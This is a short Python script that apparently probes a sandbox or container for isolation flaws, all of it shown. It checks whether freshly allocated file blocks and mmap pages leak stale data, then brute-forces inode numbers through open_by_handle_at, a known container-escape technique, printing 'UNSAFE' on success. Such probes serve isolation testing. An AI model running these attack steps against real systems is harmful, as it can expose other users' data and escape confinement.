import ctypes, mmap, os

libc = ctypes.CDLL(None, use_errno=True)
print("ATTACK-START", flush=True)
for number in range(16):
    fd = os.open(f"n{number}", os.O_RDWR | os.O_CREAT)
    os.ftruncate(fd, 1 << 20)
    libc.fallocate(fd, 0, ctypes.c_long(0), ctypes.c_long(1 << 18))
    os.pwrite(fd, b"x", 4097)
    for at in range(0, 1 << 20, 4096):
        data = os.pread(fd, 4096, at).strip(b"\0x")
        if data:
            print("UNSAFE:", data[:40])
    with mmap.mmap(fd, 1 << 20) as pages:
        if pages[:].strip(b"\0x"):
            print("UNSAFE: mapped", pages[:].strip(b"\0x")[:40])
handle = ctypes.create_string_buffer(8 + 128)
mount = ctypes.c_int()
ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[0] = 128
if libc.name_to_handle_at(-100, b"n0", handle, ctypes.byref(mount), 0) == 0:
    folder = os.open(".", os.O_RDONLY)
    for inode in range(64):
        ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[3] = inode
        if libc.open_by_handle_at(folder, handle, 0) >= 0:
            print("UNSAFE: opened by a handle")
print("ATTACK-END")
